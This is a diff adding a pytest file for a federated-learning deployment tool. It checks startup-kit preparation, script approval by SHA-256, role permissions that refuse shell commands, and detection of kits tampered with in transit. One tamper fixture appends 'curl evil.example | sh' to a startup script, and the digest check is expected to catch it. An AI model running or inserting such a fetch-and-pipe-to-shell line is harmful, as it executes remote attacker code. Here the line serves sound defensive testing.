@@ -1,0 +1,171 @@
+"""Kits made ready: whose they are, what is refused there to whoever asks, and what stays when it is done again."""
+
+import hashlib
+import json
+
+import pytest
+
+from fedmerit.engines.nvflare.recipe import survey_classes
+from fedmerit.errors import BadInput
+from fedmerit.plugin_references import Reference
+from fedmerit.trainers.monai.manifest import JobRules, Manifest
+from fedmerit_deploy.kit_files import read_kind, require_kind
+from fedmerit_deploy.kits import (
+    approve,
+    approve_script,
+    kit_digest,
+    prepare_server,
+    prepare_site,
+    privacy_policy,
+    read_manifest,
+    require_digest,
+)
+
+KINDS = {"localhost": "server", "site1": "client", "a@lead.org": "admin"}  # by participant
+
+
+def read(path):
+    return json.loads(path.read_text())
+
+
+@pytest.fixture
+def server(federation):
+    return federation / "fedmerit/prod_00/localhost"
+
+
+def test_a_kit_of_another_kind_is_named(provisioned):
+    kits = provisioned / "fedmerit/prod_00"
+    for name, kind in KINDS.items():
+        assert require_kind(kits / name, kind) == read(kits / name / f"startup/fed_{kind}.json")
+    for name, kind, words in (
+        ("localhost", "client", "startup kit of the server, expected that of a site"),
+        ("site1", "admin", "startup kit of a site, expected that of an admin"),
+        ("a@lead.org", "server", "startup kit of an admin, expected that of the server"),
+    ):
+        with pytest.raises(BadInput, match=words):
+            require_kind(kits / name, kind)
+    with pytest.raises(BadInput, match="prod_00: no startup kit"):
+        read_kind(kits)
+
+
+def test_a_site_without_images_is_bound_to_its_script_until_that_changes(federation, tmp_path, found):
+    kit, script = federation / "fedmerit/prod_00/site1", tmp_path / "client.py"
+    script.write_text("pass\n")
+    prepare_site(kit, None, "cpu", script=approve_script(script, "--epochs 2", "python3 -u"))
+    own = read(kit / "local" / "fedmerit.json")["script"]
+    digest = hashlib.sha256(b"pass\n").hexdigest()
+    assert own == {"file": str(script), "sha256": digest, "args": "--epochs 2", "command": "python3 -u"}
+    assert "site_folder" not in read(kit / "local" / "fedmerit.json")
+    assert found(kit, "script", offline=True) == [("ok", f"{script}, SHA-256 {digest}")]
+    prepare_site(kit, None, "cpu")  # again, for another reason: it stays
+    assert read_manifest(kit).script.file == str(script)
+    script.write_text("print()\n")
+    ((state, told),) = found(kit, "script", offline=True)
+    assert (state, f"approved was {digest}" in told) == ("fail", True)
+    for wrong, words in ((tmp_path / "nowhere.py", "file not found"), (kit / "startup/start.sh", "a Python script")):
+        with pytest.raises(BadInput, match=words):
+            approve_script(wrong)
+
+
+def test_a_site_is_prepared_for_its_own_images_alone(federation, sites):
+    kit = federation / "fedmerit/prod_00/site1"
+    with pytest.raises(BadInput, match=r"run `fedmerit deploy site` or `fedmerit deploy server` for this kit"):
+        read_manifest(kit)
+    with pytest.raises(BadInput, match="holds site 'site2', the kit is that of 'site1'"):
+        prepare_site(kit, sites / "site2")
+    prepare_site(kit, sites / "site1", "cpu")
+    folders = {"site_folder": str(sites / "site1"), "runs": str(kit / "runs")}
+    assert read_manifest(kit) == Manifest(site="site1", device="cpu", **folders)
+    written = read(kit / "local" / "fedmerit.json")["jobs"]
+    assert set(written) == set(JobRules.model_fields)  # all of them, to be edited
+    assert not written["keep_updates"]
+    assert not written["share_models"]
+
+
+def test_what_an_operator_decided_stays_when_a_kit_is_prepared_again(ready, sites):
+    approve(ready, [Reference("mine:Part", "mine 1", "aa"), Reference("other:Part", "other 1", "bb")])
+    approve(ready, [Reference("mine:Part", "mine 2", "cc")])
+    content = read(ready / "local" / "fedmerit.json")
+    content["jobs"] |= {"least_images": 40, "keep_updates": True}
+    (ready / "local" / "fedmerit.json").write_text(json.dumps(content))
+    prepare_site(ready, sites / "site1", "cpu", evaluations="testing=3")
+    prepare_site(ready, sites / "site1")
+    manifest = read_manifest(ready)
+    assert manifest.parts == {"mine:Part": "cc", "other:Part": "bb"}
+    assert manifest.jobs.caps == {"validation": 64, "testing": 3, "server_validation": 64}
+    assert (manifest.jobs.least_images, manifest.jobs.keep_updates, manifest.device) == (40, True, "auto")
+    approve(ready, None)
+    assert read_manifest(ready).approved is None
+
+
+@pytest.mark.parametrize("answers", [False, True])
+def test_whether_surveys_are_answered_stays_when_a_kit_is_prepared_again(ready, sites, answers):
+    def answered():
+        return survey_classes() <= set(read(ready / "local" / "resources.json")["class_allow_list"])
+
+    assert answered()
+    prepare_site(ready, sites / "site1", surveys=answers)
+    prepare_site(ready, sites / "site1")
+    assert answered() == answers
+
+
+@pytest.mark.parametrize("byoc", [False, True])
+def test_foreign_code_and_shells_are_refused_to_every_role(server, byoc):
+    """Those with a right to all keep what is no such thing; who may look at a job may ask how far it is."""
+    path = server / "local/authorization.json.default"
+    roles = {"boss": "any", "guest": {"view": "o:site", "byoc": "any", "shell_commands": "any"}}
+    path.write_text(json.dumps({"format_version": "1.0", "permissions": roles}))
+    prepare_server(server, byoc=byoc)
+    rights = read(server / "local/authorization.json")["permissions"]
+    refused = {"shell_commands": "none", "server-predeployed-flwr": "none", "byoc": "any" if byoc else "none"}
+    assert rights["guest"] == {"view": "o:site", "app_command": "o:site", **refused}
+    assert rights["boss"].items() >= refused.items()
+    assert {rights["boss"][name] for name in ("submit_job", "view", "manage_job", "app_command", "get_job_log")} == {
+        "any"
+    }
+    assert read(path)["permissions"] == roles
+
+
+@pytest.mark.parametrize("name", ["site1", "localhost"])
+def test_kit_that_was_unpacked_for_everybody_is_its_owners_alone(federation, sites, name):
+    kit = federation / "fedmerit/prod_00" / name
+    kit.chmod(0o755)
+    if name == "localhost":
+        prepare_server(kit)
+    else:
+        prepare_site(kit, sites / name)
+    assert kit.stat().st_mode & 0o777 == 0o700
+
+
+def test_what_a_hospital_made_stricter_stays_when_its_kit_is_prepared_again(ready, sites):
+    policy = privacy_policy("client")
+    policy["scopes"][0]["task_result_filters"][0]["args"] |= {"decimals": 4, "encrypted": True}
+    (ready / "local" / "privacy.json").write_text(json.dumps(policy))
+    prepare_site(ready, sites / "site1")
+    assert read(ready / "local" / "privacy.json") == policy
+
+
+def change_port(kit):
+    path = kit / "startup" / "fed_client.json"
+    path.write_text(path.read_text().replace("localhost:", "localhost:1"))
+
+
+@pytest.mark.parametrize(
+    "spoil",
+    [
+        change_port,
+        lambda kit: (kit / "startup" / "sub_start.sh").open("a").write("curl evil.example | sh"),
+        lambda kit: (kit / "startup" / "sitecustomize.py").write_text(""),
+        lambda kit: (kit / "local" / "resources.json.default").write_text("{}"),
+    ],
+)
+def test_a_kit_that_was_changed_on_its_way_is_found(federation, sites, spoil):
+    """NVFlare signs no such kit: the digest, which comes another way, shows it."""
+    kit = federation / "fedmerit/prod_00/site1"
+    digest = kit_digest(kit)
+    require_digest(kit, f"{digest.upper()} ")
+    prepare_site(kit, sites / "site1")
+    require_digest(kit, digest)  # what the hospital writes is its own
+    spoil(kit)
+    with pytest.raises(BadInput, match=f"have SHA-256 [0-9a-f]+, the coordinator names {digest}; do not start it"):
+        require_digest(kit, digest)
